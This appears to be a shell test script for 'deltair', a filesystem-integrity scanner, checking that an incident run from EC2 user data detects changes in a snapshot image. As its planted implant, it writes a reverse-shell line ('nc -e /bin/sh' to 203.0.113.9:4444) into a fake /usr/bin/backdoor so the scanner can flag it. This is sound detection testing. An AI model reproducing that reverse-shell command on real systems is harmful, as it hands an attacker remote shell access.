#!/bin/bash
# t7050: one incident, one instance. User data with incident_* keys (served by the AWS peer's
# IMDSv2) is turned by firstboot into incident.conf; the incident script queues the snapshot
# on the local spool, the real worker (from the packaged config)
# reads it through ebs:// from the peer, and the script reports where the results are; the
# results' events equal a local `deltair scan` of the same image; a snapshot that cannot be
# read is reported as failed with the worker's reason; --stop-if-asked powers off only when
# stop = yes.
. "$TOP/tests/cli/lib.sh"
need mke2fs curl
img=$TOP/image

mkdir -p tree/etc tree/usr/bin
printf 'gold\n' > tree/etc/motd
printf '#!/bin/sh\necho hi\n' > tree/usr/bin/tool
t_gold_incident tree 16M
printf 'implant\n' > mnt/etc/motd
printf '#!/bin/sh\nnc -e /bin/sh 203.0.113.9 4444\n' > mnt/usr/bin/backdoor
chmod 0755 mnt/usr/bin/backdoor
_t_umount "$(readlink -f mnt)"

cat > ud.txt << UD
incident_snapshot = snap-0123456789abcdef1
incident_case = IR-7050
incident_baseline = $PWD/gold.dtree
incident_output = $PWD/results
incident_stop = yes
incident_timeout_seconds = 180
UD
"$AWS_PEER_PY" -c 'import json; print(json.dumps({
  "snapshots": {"snap-0123456789abcdef1": {"image": "incident.img"}},
  "imds": {"user_data": open("ud.txt").read()}}))' > peer.json
aws_peer peer.json
export AWS_ENDPOINT_URL=$AWS_PEER_URL AWS_REGION=us-east-1 AWS_ACCESS_KEY_ID=AKIDEXAMPLE \
	AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG+bPxRfiCYEXAMPLEKEY AWS_CONFIG_FILE=/dev/null \
	AWS_SHARED_CREDENTIALS_FILE=/dev/null AWS_EC2_METADATA_DISABLED=true

# 1. firstboot: incident.conf from user data; deltair.conf untouched.
sed "s|spool:/var/spool/deltair|spool:$PWD/spool|; s|/var/lib/deltair/results|$PWD/results|;
	s|/var/cache/deltair/baselines|$PWD/cache|; s|/var/lib/deltair/work|$PWD/work|" \
	"$img/deltair.conf" > deltair.conf
printf 'max_receives = 1\npoll_seconds = 1\n' >> deltair.conf
cp deltair.conf deltair.conf.orig
AWS_EC2_METADATA_SERVICE_ENDPOINT=$AWS_PEER_URL/ "$img/firstboot" --deltair "$DELTAIR" --conf deltair.conf \
	--env deltair.env --incident incident.conf --done fb.done 2> fb.err || die "firstboot exited $?: $(cat fb.err)"
cmp -s deltair.conf deltair.conf.orig || fail "incident user data changed deltair.conf"
printf 'baseline = %s\ncase = IR-7050\noutput = %s\nsnapshot = snap-0123456789abcdef1\nstop = yes\ntimeout_seconds = 180\n' \
	"$PWD/gold.dtree" "$PWD/results" | cmp -s - incident.conf || fail "incident.conf: $(cat incident.conf)"
# incident_ keys without a snapshot are refused.
printf 'incident_case = x\n' > ud-bad.txt
"$img/firstboot" --deltair "$DELTAIR" --user-data ud-bad.txt --conf deltair.conf --incident bad-incident.conf --done d2 2> /dev/null &&
	fail "firstboot accepted incident keys without a snapshot"
[ ! -e bad-incident.conf ] || fail "firstboot wrote an incident.conf without a snapshot"
# The worker writes only beneath its own output: an incident_output elsewhere becomes the
# worker's output too (unless user data sets output).
cp deltair.conf.orig other.conf
printf 'incident_snapshot = snap-0123456789abcdef1\nincident_output = s3://ir-bucket/results\n' > ud-out.txt
"$img/firstboot" --deltair "$DELTAIR" --user-data ud-out.txt --conf other.conf --incident other-incident.conf \
	--env other.env --done d3 2> fb3.err || fail "firstboot with incident_output: $(cat fb3.err)"
[ "$(grep -c '^output = ' other.conf)" = 1 ] && grep -q '^output = s3://ir-bucket/results$' other.conf ||
	fail "incident_output is not the worker's output: $(grep output other.conf)"
printf 'output = s3://ir-bucket\n' >> ud-out.txt
cp deltair.conf.orig other.conf
"$img/firstboot" --deltair "$DELTAIR" --user-data ud-out.txt --conf other.conf --incident other-incident.conf \
	--env other.env --done d4 2> fb4.err || fail "firstboot with output: $(cat fb4.err)"
grep -q '^output = s3://ir-bucket$' other.conf && ! grep -q '^output = s3://ir-bucket/results' other.conf ||
	fail "user data's output is not the worker's: $(grep output other.conf)"

# 2. The worker, from the packaged config, and the incident run.
"$DELTAIR" worker --config deltair.conf > worker.out 2> worker.err &
wpid=$!
at_exit "kill $wpid; wait $wpid"
rc=0
DELTAIR_INCIDENT_DONE=$PWD/incident.done timeout 200 "$img/incident" --conf incident.conf \
	--worker-conf deltair.conf > inc.out 2> inc.err || rc=$?
[ "$rc" = 0 ] || fail "incident exited $rc: $(cat inc.out inc.err; tail -5 worker.err)"
grep -q "summary: {" inc.out || fail "no summary on the console: $(cat inc.out)"
grep -q "done: results in $PWD/results" inc.out || fail "incident said: $(cat inc.out)"
[ -e incident.done ] || fail "no incident.done"
res=results/IR-7050/snap-0123456789abcdef1
[ -e "$res/COMPLETE" ] || fail "no COMPLETE in $res: $(ls -R results | head)"
dt scan --no-progress --baseline gold.dtree -o local.jsonl incident.img
[ "$rc" = 1 ] || fail "local scan exited $rc, want 1 (a delta)"
canon_jsonl < local.jsonl > local.canon
zcat "$res/events.jsonl.gz" | canon_jsonl > worker.canon
compare local.canon worker.canon type mode size sha256 change > cmp.out ||
	fail "the incident's events differ from a local scan: $(cat cmp.out)"
grep -q "$(printf '/usr/bin/backdoor' | base64)" worker.canon || fail "the implant is not in the results"

# 3. A snapshot the peer does not have: reported as failed, with the reason.
printf 'snapshot = snap-0123456789abcdef9\ncase = IR-7050-b\nbaseline = %s\noutput = %s\ntimeout_seconds = 120\n' \
	"$PWD/gold.dtree" "$PWD/results" > incident2.conf
rc=0
DELTAIR_INCIDENT_DONE=$PWD/incident2.done timeout 150 "$img/incident" --conf incident2.conf \
	--worker-conf deltair.conf > inc2.out 2>&1 || rc=$?
[ "$rc" = 1 ] || fail "a failing incident exited $rc, want 1: $(cat inc2.out)"
grep -q "failed: .*snap-0123456789abcdef9\|failed: .*scan exited" inc2.out || fail "no reason given: $(cat inc2.out)"
[ ! -e results/IR-7050-b/snap-0123456789abcdef9/COMPLETE ] || fail "a COMPLETE for the failed job"

# 4. A spool-less worker config is refused; the power-off only when asked.
printf 'queue = sqs://https://sqs.us-east-1.amazonaws.com/1/q\n' > sqs.conf
"$img/incident" --conf incident.conf --worker-conf sqs.conf > /dev/null 2>&1
[ $? = 2 ] || fail "incident accepted a non-spool queue"
DELTAIR_POWEROFF="touch poweroff-yes" "$img/incident" --stop-if-asked --conf incident.conf > /dev/null ||
	fail "--stop-if-asked failed"
[ -e poweroff-yes ] || fail "stop = yes did not power off"
DELTAIR_POWEROFF="touch poweroff-no" "$img/incident" --stop-if-asked --conf incident2.conf > /dev/null
[ ! -e poweroff-no ] || fail "no stop key, yet it powered off"
aws_peer_ctl DELETE /_peer/violations > /dev/null # the missing snapshot's refusals are expected
t_done
